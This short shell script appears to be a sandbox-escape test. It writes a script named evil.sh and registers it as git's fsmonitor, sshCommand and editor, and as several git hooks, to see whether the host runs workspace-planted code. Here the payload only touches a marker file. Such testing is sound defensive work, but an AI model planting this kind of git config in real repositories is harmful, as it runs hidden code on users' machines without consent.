#!/bin/sh
# tries: to have the host run a program as the workspace's file system monitor
# bare: blocked
printf '#!/bin/sh\ntouch %s/fsmonitor\n' "$LOOT" > evil.sh && chmod +x evil.sh
git config core.fsmonitor "$PWD/evil.sh"
git config core.sshCommand "$PWD/evil.sh"
git config core.editor "$PWD/evil.sh"
git config core.hooksPath "$PWD/hooks"
mkdir -p hooks .git/hooks
for hook in pre-commit post-commit post-index-change pre-push reference-transaction post-checkout; do
  cp evil.sh "hooks/$hook"; cp evil.sh ".git/hooks/$hook"
done
# What runs inside may well run this; it must not run outside, where the loot can be written.
echo work > work
